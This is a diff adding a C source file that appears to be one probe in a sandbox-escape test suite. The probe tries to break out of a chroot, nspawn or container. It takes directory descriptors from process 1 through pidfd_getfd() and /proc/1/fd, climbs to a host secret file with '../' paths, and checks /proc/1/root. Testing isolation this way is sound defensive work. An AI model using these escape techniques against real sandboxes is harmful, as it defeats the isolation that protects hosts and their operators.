@@ -1,0 +1,50 @@
+/* SPDX-License-Identifier: Apache-2.0 */
+/*
+ * Trick: take the descriptors of the first process, by /proc/1/fd and by pidfd_getfd(),
+ * and climb from those that are directories.
+ * Gain: whatever the keeper left open in the process that it made.
+ * Expect: chroot=stops nspawn=stops container=stops
+ * Expect root: chroot=escapes
+ *
+ * In the chroot wall the first process is the host's init.
+ */
+#include "hostile.h"
+
+#ifndef SYS_pidfd_getfd
+#define SYS_pidfd_getfd 438
+#endif
+
+static void climb(int fd, int n)
+{
+	char up[PATH_MAX];
+
+	(void)snprintf(up, sizeof(up), "../../../../../../../..%s", given("SECRET_FILE"));
+	if (holds_secret(fd, given("SECRET_FILE") + 1) || holds_secret(fd, up))
+		escaped("descriptor %d of process 1 leads to the host's files", n);
+}
+
+int main(void)
+{
+	int pidfd = (int)syscall(SYS_pidfd_open, 1, 0), taken = 0;
+	char path[64];
+
+	for (int n = 0; n < 1024; n++) {
+		int fd = pidfd < 0 ? -1 : (int)syscall(SYS_pidfd_getfd, pidfd, n, 0);
+
+		if (fd >= 0) {
+			taken++;
+			climb(fd, n);
+			(void)close(fd);
+		}
+		(void)snprintf(path, sizeof(path), "/proc/1/fd/%d", n);
+		fd = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC | O_NONBLOCK);
+		if (fd >= 0) {
+			climb(fd, n);
+			(void)close(fd);
+		}
+	}
+	(void)snprintf(path, sizeof(path), "/proc/1/root%s", given("SECRET_FILE"));
+	if (holds_secret(AT_FDCWD, path))
+		escaped("/proc/1/root is the host's");
+	stopped("%d descriptors of process 1 could be taken, none leads out", taken);
+}
